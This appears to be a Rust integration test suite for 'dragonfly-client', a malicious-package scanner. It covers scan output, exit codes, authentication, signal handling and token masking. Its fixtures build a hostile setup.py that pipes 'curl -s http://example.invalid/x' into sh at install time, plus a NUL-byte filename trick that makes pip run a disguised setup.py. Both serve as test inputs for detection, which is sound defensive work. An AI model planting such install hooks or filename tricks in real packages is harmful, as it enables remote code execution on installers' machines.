//! The `dragonfly-client` binary, run as a user would.

mod common;

use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use common::Running;
use dragonfly_testkit::fixtures::{self, FixtureFile};
use dragonfly_testkit::server::{
    AuthMode, Distribution, Endpoint, FakeServer, Fault, FaultAction, ServerConfig,
};
use serde_json::Value;

fn bin() -> Command {
    common::clean_bin()
}

fn run(command: &mut Command) -> (i32, String, String) {
    let Output { status, stdout, stderr } = command.output().expect("binary runs");
    (
        status.code().unwrap_or(-1),
        String::from_utf8_lossy(&stdout).into(),
        String::from_utf8_lossy(&stderr).into(),
    )
}

/// A setup.py that runs a shell command at install time, assembled at
/// runtime so this source file carries no trigger string.
fn install_hook_setup_py() -> Vec<u8> {
    let system = ["os.", "system"].concat();
    format!(
        "import os\nfrom setuptools import setup\n{system}('curl -s http://example.invalid/x | sh')\nsetup(name='evil')\n"
    )
    .into_bytes()
}

fn write_fixtures(dir: &Path) -> (String, String) {
    let evil = fixtures::sdist(
        "evil",
        "1.0",
        &[FixtureFile { path: "setup.py".into(), data: install_hook_setup_py() }],
    );
    let clean = fixtures::wheel(
        "clean",
        "2.0",
        &[FixtureFile {
            path: "clean/__init__.py".into(),
            data: b"def add(a, b):\n    return a + b\n".to_vec(),
        }],
    );
    let evil_path = dir.join(fixtures::sdist_filename("evil", "1.0"));
    let clean_path = dir.join(fixtures::wheel_filename("clean", "2.0"));
    std::fs::write(&evil_path, evil).unwrap();
    std::fs::write(&clean_path, clean).unwrap();
    (evil_path.display().to_string(), clean_path.display().to_string())
}

#[test]
fn scan_json_table_and_exit_status() {
    let dir = tempfile::tempdir().unwrap();
    let (evil, clean) = write_fixtures(dir.path());

    let (code, stdout, stderr) = run(bin().args(["scan", "--format", "json", &evil, &clean]));
    assert_eq!(code, 0, "{stderr}");
    let report: Value = serde_json::from_str(&stdout).unwrap();
    let items = report.as_array().unwrap();
    assert_eq!(items.len(), 2);
    assert_eq!((items[0]["name"].as_str(), items[0]["version"].as_str()), (Some("evil"), Some("1.0")));
    let score = items[0]["score"].as_i64().unwrap();
    assert!(score > 0, "{stdout}");
    assert!(!items[0]["rules_matched"].as_array().unwrap().is_empty());
    assert_eq!(items[0]["files"][0]["path"], "evil-1.0/setup.py");
    assert!(items[0]["commit"].as_str().unwrap().starts_with("bundled-"));
    assert_eq!(items[0]["inspector_url"], Value::Null, "local files have no inspector link");
    assert_eq!((items[1]["name"].as_str(), items[1]["score"].as_i64()), (Some("clean"), Some(0)));
    for key in ["name", "version", "score", "inspector_url", "rules_matched", "commit", "files", "errors"] {
        assert!(items[1].get(key).is_some(), "missing {key}");
    }

    let threshold = score.to_string();
    let (code, stdout, _) = run(bin().args(["scan", "--fail-score", &threshold, &evil, &clean]));
    assert_eq!(code, 1, "{stdout}");
    assert!(stdout.starts_with("PACKAGE"), "{stdout}");
    assert!(stdout.contains("evil 1.0") && stdout.contains("evil-1.0/setup.py"), "{stdout}");
    let above = (score + 1).to_string();
    let (code, _, _) = run(bin().args(["scan", "--fail-score", &above, &evil]));
    assert_eq!(code, 0);
}

#[test]
fn scan_sees_the_name_pip_installs_and_reports_the_trick() {
    // `setup.py\0.txt`: pip writes (and runs) setup.py.
    let dir = tempfile::tempdir().unwrap();
    let sdist = fixtures::sdist_with_long_name(
        b"evil-1.0/setup.py\0.txt",
        "evil-1.0/notes.txt",
        &install_hook_setup_py(),
    );
    let path = dir.path().join("evil-1.0.tar.gz");
    std::fs::write(&path, sdist).unwrap();
    let (code, stdout, stderr) = run(bin().args(["scan", "--format", "json", path.to_str().unwrap()]));
    assert_eq!(code, 0, "{stderr}");
    let report: Value = serde_json::from_str(&stdout).unwrap();
    assert!(report[0]["score"].as_i64().unwrap() > 0, "{stdout}");
    assert_eq!(report[0]["files"][0]["path"], "evil-1.0/setup.py");
    assert_eq!(report[0]["files"][0]["aliases"][0], "evil-1.0/notes.txt");
    let kinds: Vec<&str> =
        report[0]["anomalies"].as_array().unwrap().iter().filter_map(|a| a["kind"].as_str()).collect();
    assert!(kinds.contains(&"name_with_nul") && kinds.contains(&"conflicting_names"), "{kinds:?}");
}

#[test]
fn scan_caps_pipes_and_devices_too() {
    let (code, stdout, stderr) =
        run(bin().args(["scan", "--format", "json", "--max-scan-size", "4096", "/dev/zero"]));
    assert_eq!(code, 2, "{stdout} {stderr}");
    assert!(stdout.contains("more than --max-scan-size 4096 bytes"), "{stdout}");
}

#[test]
fn scan_json_snapshot() {
    let dir = tempfile::tempdir().unwrap();
    let (evil, _) = write_fixtures(dir.path());
    let (code, stdout, stderr) = run(bin().args(["scan", "--format", "json", &evil]));
    assert_eq!(code, 0, "{stderr}");
    let text = stdout
        .replace(&dir.path().display().to_string(), "$DIR")
        .replace(concat!("bundled-", env!("CARGO_PKG_VERSION")), "bundled-$VERSION");
    expect_test::expect![[r#"
        [
          {
            "input": "$DIR/evil-1.0.tar.gz",
            "name": "evil",
            "version": "1.0",
            "score": 11,
            "inspector_url": null,
            "rules_matched": [
              "setup_py_module_level_exec",
              "shell_pipe_download"
            ],
            "commit": "bundled-$VERSION",
            "files": [
              {
                "distribution": "$DIR/evil-1.0.tar.gz",
                "path": "evil-1.0/setup.py",
                "size": 109,
                "sha256": "6d2e6410f9a6a9cf4a0fde7c36c85bdcf10dce7789ce79b9907d8e414126c70f",
                "score": 11,
                "rules": [
                  {
                    "name": "shell_pipe_download",
                    "weight": 6,
                    "match_count": 1,
                    "evidence": [
                      {
                        "pattern": "$pipe",
                        "offset": 50,
                        "length": 37,
                        "line": 3,
                        "column": 12,
                        "end_line": 3,
                        "end_column": 49,
                        "matched": "curl -s http://example.invalid/x | sh",
                        "excerpt": "os.system('curl -s http://example.invalid/x | sh')"
                      }
                    ]
                  },
                  {
                    "name": "setup_py_module_level_exec",
                    "weight": 5,
                    "match_count": 1,
                    "evidence": [
                      {
                        "pattern": "$os_exec",
                        "offset": 39,
                        "length": 10,
                        "line": 3,
                        "column": 1,
                        "end_line": 3,
                        "end_column": 11,
                        "matched": "os.system(",
                        "excerpt": "os.system('curl -s http://example.invalid/x | sh')"
                      }
                    ]
                  }
                ]
              }
            ],
            "files_scanned": 2,
            "files_skipped": 0,
            "bytes_scanned": 271,
            "errors": [],
            "anomalies": [],
            "suppressed": 0,
            "reuse": {
              "candidate_files": 2,
              "reused_files": 0,
              "reused_bytes": 0
            }
          }
        ]
    "#]]
    .assert_eq(&text);
}

#[test]
fn scan_errors_exit_2_with_clear_messages() {
    let dir = tempfile::tempdir().unwrap();
    let missing = dir.path().join("nope-1.0.tar.gz");
    let (code, stdout, _) = run(bin().args(["scan", missing.to_str().unwrap()]));
    assert_eq!(code, 2);
    assert!(stdout.contains("can not read") && stdout.contains("nope-1.0.tar.gz"), "{stdout}");

    let junk = dir.path().join("junk-1.0.tar.gz");
    std::fs::write(&junk, b"\x89PNG\r\n\x1a\nnot an archive").unwrap();
    let (code, stdout, _) = run(bin().args(["scan", junk.to_str().unwrap()]));
    assert_eq!(code, 2);
    assert!(stdout.contains("unsupported"), "{stdout}");

    let rules = dir.path().join("bad.yar");
    std::fs::write(&rules, "rule ok { condition: true }\nrule bad { condition: and }\n").unwrap();
    let (code, _, stderr) =
        run(bin().args(["scan", "--rules", rules.to_str().unwrap(), junk.to_str().unwrap()]));
    assert_eq!(code, 2);
    assert!(stderr.contains("bad.yar") && stderr.contains("line 2"), "{stderr}");
}

#[test]
fn scan_directory_and_custom_rules() {
    let dir = tempfile::tempdir().unwrap();
    let project = dir.path().join("proj-0.1");
    std::fs::create_dir_all(project.join("pkg")).unwrap();
    std::fs::write(project.join("pkg/a.py"), "token = 'needle-xyz'\n").unwrap();
    std::fs::write(project.join("notes.txt"), "needle-xyz\n").unwrap();
    let rules = dir.path().join("rules");
    std::fs::create_dir_all(&rules).unwrap();
    std::fs::write(
        rules.join("r.yar"),
        "rule needle { meta: weight = 4 filetype = \".py\" strings: $a = \"needle-xyz\" condition: $a }",
    )
    .unwrap();
    let (code, stdout, stderr) = run(bin().args([
        "scan",
        "--format",
        "json",
        "--rules",
        rules.to_str().unwrap(),
        project.to_str().unwrap(),
    ]));
    assert_eq!(code, 0, "{stderr}");
    let report: Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(report[0]["name"], "proj");
    assert_eq!(report[0]["version"], "0.1");
    assert_eq!(report[0]["score"], 4);
    assert_eq!(report[0]["files"].as_array().unwrap().len(), 1, "notes.txt is not a .py file");
    assert_eq!(report[0]["files"][0]["path"], "pkg/a.py");
    assert_eq!(report[0]["files_skipped"], 1);
}

#[test]
fn scan_url_downloads_into_memory() {
    let server = FakeServer::start(ServerConfig::default()).unwrap();
    let sdist = fixtures::sdist(
        "evil",
        "1.0",
        &[FixtureFile { path: "setup.py".into(), data: install_hook_setup_py() }],
    );
    let urls = server.add_package(
        "evil",
        "1.0",
        vec![Distribution { filename: fixtures::sdist_filename("evil", "1.0"), bytes: sdist }],
    );
    let (code, stdout, stderr) = run(bin().args(["scan", "--format", "json", &urls[0]]));
    assert_eq!(code, 0, "{stderr}");
    let report: Value = serde_json::from_str(&stdout).unwrap();
    assert!(report[0]["score"].as_i64().unwrap() > 0, "{stdout}");
    let link = report[0]["inspector_url"].as_str().unwrap();
    assert!(link.starts_with("https://inspector.pypi.io/project/evil/1.0/packages/"), "{link}");
    assert!(link.ends_with("/evil-1.0/setup.py"), "{link}");
}

#[test]
fn config_masks_secrets_and_rejects_bad_values() {
    let dir = tempfile::tempdir().unwrap();
    let (code, stdout, stderr) = run(bin()
        .arg("config")
        .current_dir(dir.path())
        .env("DRAGONFLY_AUTH_MODE", "token")
        .env("DRAGONFLY_TOKEN", "super-secret-token-value"));
    assert_eq!(code, 0, "{stderr}");
    assert!(!stdout.contains("super-secret-token-value"), "{stdout}");
    assert!(stdout.contains("token = \"***\""), "{stdout}");

    let (code, _, stderr) = run(bin().arg("config").current_dir(dir.path()).env("DRAGONFLY_THREADS", "0"));
    assert_eq!(code, 2);
    assert!(stderr.contains("DRAGONFLY_THREADS"), "{stderr}");
}

#[test]
fn config_shows_the_memory_limit_in_force_and_its_source() {
    let dir = tempfile::tempdir().unwrap();
    let config = |limit: Option<&str>| {
        let mut command = bin();
        command.arg("config").current_dir(dir.path()).env("DRAGONFLY_AUTH_MODE", "none");
        if let Some(limit) = limit {
            command.env("DRAGONFLY_MEMORY_LIMIT", limit);
        }
        run(&mut command)
    };
    let (code, stdout, stderr) = config(Some("512MiB"));
    assert_eq!(code, 0, "{stderr}");
    assert!(stdout.contains("memory_limit = \"512MiB\""), "{stdout}");
    assert!(
        stdout.contains("# memory limit in force: 536870912 bytes, from DRAGONFLY_MEMORY_LIMIT"),
        "{stdout}"
    );
    // Without the setting: the container's limit or the machine's memory.
    let (code, stdout, _) = config(None);
    assert_eq!(code, 0);
    assert!(stdout.contains("# memory limit in force: ") && stdout.contains(" bytes, from "), "{stdout}");
    let (code, _, stderr) = config(Some("lots"));
    assert_eq!(code, 2);
    assert!(stderr.contains("DRAGONFLY_MEMORY_LIMIT"), "{stderr}");
}

#[test]
fn sigterm_finishes_held_jobs_and_exits_0() {
    let server = FakeServer::start(ServerConfig::default()).unwrap();
    let rules =
        dragonfly_engine::RuleSet::bundled_sources().map(|(n, s)| (n.to_owned(), s.to_owned())).collect();
    server.set_rules("r1", rules);
    server.add_fault(Fault::new(Endpoint::Download, FaultAction::Delay(Duration::from_millis(200))));
    for i in 0..4 {
        let name = format!("sig{i}");
        let files = [FixtureFile { path: "m.py".into(), data: b"x = 1\n".to_vec() }];
        let dist = Distribution {
            filename: fixtures::sdist_filename(&name, "1.0"),
            bytes: fixtures::sdist(&name, "1.0", &files),
        };
        server.add_package(&name, "1.0", vec![dist]);
    }
    let dir = tempfile::tempdir().unwrap();
    let node = Running::new(
        bin()
            .arg("run")
            .current_dir(dir.path())
            .env("DRAGONFLY_BASE_URL", server.url())
            .env("DRAGONFLY_AUTH_MODE", "none")
            .env("DRAGONFLY_THREADS", "2")
            .env("DRAGONFLY_BULK_SIZE", "4")
            .env("DRAGONFLY_WAIT_DURATION", "1")
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap(),
    );
    let started = Instant::now();
    while server.stats().leases == 0 && started.elapsed() < Duration::from_secs(60) {
        std::thread::sleep(Duration::from_millis(10));
    }
    assert!(server.stats().leases > 0, "the node leased nothing");
    let output = node.terminate_with_output();
    let log = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(0), "{log}");
    let delivered = server.results().iter().filter(|r| r.status == 200).count() as u64;
    assert_eq!(delivered, server.stats().leases, "every held job reported: {log}");
    assert!(log.contains("finishing held jobs"), "{log}");
}

/// Today's production: a Cloudflare Access edge that checks a service token
/// on every request and sets no cookie.
fn production_server() -> FakeServer {
    let auth = AuthMode::Cloudflare { client_id: "node-7.access".into(), client_secret: "svc-secret".into() };
    let server = FakeServer::start(ServerConfig { auth, ..ServerConfig::default() }).unwrap();
    server.set_rules("prod-rules", fixtures::production_rules());
    for name in ["cf-one", "cf-two"] {
        let files = [FixtureFile { path: "m.py".into(), data: b"import os\nprint(os.environ)\n".to_vec() }];
        server.add_package(
            name,
            "1.0",
            vec![Distribution::new(
                fixtures::sdist_filename(name, "1.0"),
                fixtures::sdist(name, "1.0", &files),
            )],
        );
    }
    server
}

fn production_node(server: &FakeServer, secret: &str, dir: &Path) -> Running {
    Running::new(
        bin()
            .current_dir(dir)
            .env("DRAGONFLY_BASE_URL", server.url())
            .env("DRAGONFLY_CLIENT_ID", "node-7.access")
            .env("DRAGONFLY_CLIENT_SECRET", secret)
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap(),
    )
}

#[test]
fn a_service_token_alone_runs_a_node_behind_cloudflare_access() {
    let server = production_server();
    let dir = tempfile::tempdir().unwrap();
    let node = production_node(&server, "svc-secret", dir.path());
    let drained = server.wait_drained(Duration::from_secs(120));
    let output = node.terminate_with_output();
    let log = String::from_utf8_lossy(&output.stderr);
    assert!(drained, "{:?}\n{log}", server.stats());
    assert_eq!(output.status.code(), Some(0), "{log}");
    assert!(log.contains("auth cloudflare"), "{log}");
    let results = server.results();
    assert_eq!(results.iter().filter(|r| r.status == 200).count(), 2, "{results:?}");
    assert!(results.iter().all(|r| r.body["commit"] == "prod-rules"), "{results:?}");
}

#[test]
fn a_refused_service_token_is_reported_with_the_settings_to_check() {
    let server = production_server();
    let dir = tempfile::tempdir().unwrap();
    let node = production_node(&server, "wrong-secret", dir.path());
    let started = Instant::now();
    while server.stats().unauthorized == 0 && started.elapsed() < Duration::from_secs(60) {
        std::thread::sleep(Duration::from_millis(20));
    }
    let output = node.terminate_with_output();
    let log = String::from_utf8_lossy(&output.stderr);
    assert!(log.contains("login page") && log.contains("DRAGONFLY_CLIENT_SECRET"), "{log}");
    assert!(!log.contains("<!DOCTYPE") && !log.contains("wrong-secret"), "{log}");
    assert_eq!(server.stats().leases, 0);
}

#[test]
fn scan_pypi_resolves_through_the_index_pip_would_use() {
    let server = FakeServer::start(ServerConfig::default()).unwrap();
    let evil = [FixtureFile { path: "setup.py".into(), data: install_hook_setup_py() }];
    let clean = [FixtureFile { path: "m.py".into(), data: b"x = 1\n".to_vec() }];
    for (version, files) in [("1.0", &evil), ("2.0", &clean)] {
        let dist = Distribution::new(
            fixtures::sdist_filename("evil", version),
            fixtures::sdist("evil", version, files),
        );
        server.add_package("evil", version, vec![dist]);
    }
    server.yank("evil", "2.0");
    let index = format!("{}/simple", server.url());
    let (code, stdout, stderr) =
        run(bin().args(["scan", "--format", "json", "pypi:evil"]).env("PIP_INDEX_URL", &index));
    assert_eq!(code, 0, "{stderr}");
    let report: Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(report[0]["version"], "1.0", "2.0 is yanked: {stdout}");
    assert!(report[0]["score"].as_i64().unwrap() > 0, "{stdout}");
    // Named exactly, the yanked release is scanned; --index-url wins over the environment.
    let (code, stdout, stderr) = run(bin()
        .args(["scan", "--format", "json", "--index-url", &index, "pypi:evil==2.0"])
        .env("PIP_INDEX_URL", "http://127.0.0.1:9/simple"));
    assert_eq!(code, 0, "{stderr}");
    let report: Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!((report[0]["version"].as_str(), report[0]["score"].as_i64()), (Some("2.0"), Some(0)));
}

#[test]
fn https_trusts_the_platform_store_that_ssl_cert_file_names() {
    // A server whose CA is in no bundled root set, as behind a
    // TLS-inspecting proxy.
    let files = [FixtureFile { path: "m.py".into(), data: b"x = 1\n".to_vec() }];
    let server = dragonfly_testkit::tls::TlsFileServer::start(fixtures::sdist("tls", "1.0", &files)).unwrap();
    let url = format!("{}/packages/tls-1.0.tar.gz", server.url());
    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("store.pem");
    std::fs::write(&store, server.ca_pem()).unwrap();
    let empty = dir.path().join("empty");
    std::fs::create_dir(&empty).unwrap();
    let scan = |cert_file: &Path| {
        run(bin()
            .args(["scan", "--format", "json", &url])
            .env("SSL_CERT_FILE", cert_file)
            .env("SSL_CERT_DIR", &empty))
    };
    let (code, stdout, stderr) = scan(&store);
    assert_eq!(code, 0, "{stdout}{stderr}");
    let report: Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!((report[0]["name"].as_str(), report[0]["score"].as_i64()), (Some("tls"), Some(0)));

    // A store without that CA: the certificate is refused.
    let other = dir.path().join("other.pem");
    let unrelated = dragonfly_testkit::tls::TlsFileServer::start(Vec::new()).unwrap();
    std::fs::write(&other, unrelated.ca_pem()).unwrap();
    let (code, stdout, _) = scan(&other);
    assert_eq!(code, 2, "{stdout}");
    assert!(stdout.contains("certificate") || stdout.contains("UnknownIssuer"), "{stdout}");
}

/// A node with slow downloads, started against `server`.
/// A node whose one download takes `delay`, once that download started.
fn slow_node(server: &FakeServer, dir: &Path, grace: &str, delay: Duration) -> Running {
    server.set_rules(
        "r1",
        dragonfly_engine::RuleSet::bundled_sources().map(|(n, s)| (n.to_owned(), s.to_owned())).collect(),
    );
    server.add_fault(Fault::new(Endpoint::Download, FaultAction::Delay(delay)));
    let files = [FixtureFile { path: "m.py".into(), data: b"x = 1\n".to_vec() }];
    let dist =
        Distribution::new(fixtures::sdist_filename("late", "1.0"), fixtures::sdist("late", "1.0", &files));
    server.add_package("late", "1.0", vec![dist]);
    let node = Running::new(
        bin()
            .current_dir(dir)
            .env("DRAGONFLY_BASE_URL", server.url())
            .env("DRAGONFLY_AUTH_MODE", "none")
            .env("DRAGONFLY_GRACE_PERIOD", grace)
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap(),
    );
    let started = Instant::now();
    while server.stats().requests_to(Endpoint::Download) == 0 && started.elapsed() < Duration::from_secs(60) {
        std::thread::sleep(Duration::from_millis(10));
    }
    node
}

#[test]
fn a_stop_with_jobs_left_after_the_grace_period_exits_3_naming_them() {
    let server = FakeServer::start(ServerConfig::default()).unwrap();
    let dir = tempfile::tempdir().unwrap();
    // The download outlasts the 1 s grace period by far.
    let node = slow_node(&server, dir.path(), "1", Duration::from_secs(8));
    let output = node.terminate_with_output();
    let log = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(3), "{log}");
    assert!(log.contains("unfinished (late==1.0)"), "{log}");
}

#[test]
fn a_second_signal_exits_at_once_with_128_plus_its_number() {
    let server = FakeServer::start(ServerConfig::default()).unwrap();
    let dir = tempfile::tempdir().unwrap();
    // The second signal exits at once: a long download costs nothing.
    let node = slow_node(&server, dir.path(), "60", Duration::from_secs(30));
    node.signal_term();
    // The first signal must be taken before the second arrives.
    std::thread::sleep(Duration::from_millis(2000));
    let output = node.terminate_with_output();
    assert_eq!(output.status.code(), Some(128 + 15), "{}", String::from_utf8_lossy(&output.stderr));
}

#[test]
fn trace_logs_of_every_target_never_show_the_service_token() {
    let server = production_server();
    let dir = tempfile::tempdir().unwrap();
    let node = Running::new(
        bin()
            .current_dir(dir.path())
            .env("DRAGONFLY_BASE_URL", server.url())
            .env("DRAGONFLY_CLIENT_ID", "node-7.access")
            .env("DRAGONFLY_CLIENT_SECRET", "svc-secret")
            // What an operator debugging the edge would turn on (the rule
            // compiler at trace level would only slow the test down).
            .env("RUST_LOG", "info,dragonfly_api=trace,ureq_proto=trace,ureq_proto::util=trace,ureq=trace")
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap(),
    );
    let drained = server.wait_drained(Duration::from_secs(120));
    let output = node.terminate_with_output();
    let log = String::from_utf8_lossy(&output.stderr);
    assert!(drained, "{log}");
    assert!(log.contains("ureq"), "HTTP logging was on: {log}");
    assert!(!log.contains("svc-secret"), "the service token leaked into the log");
}
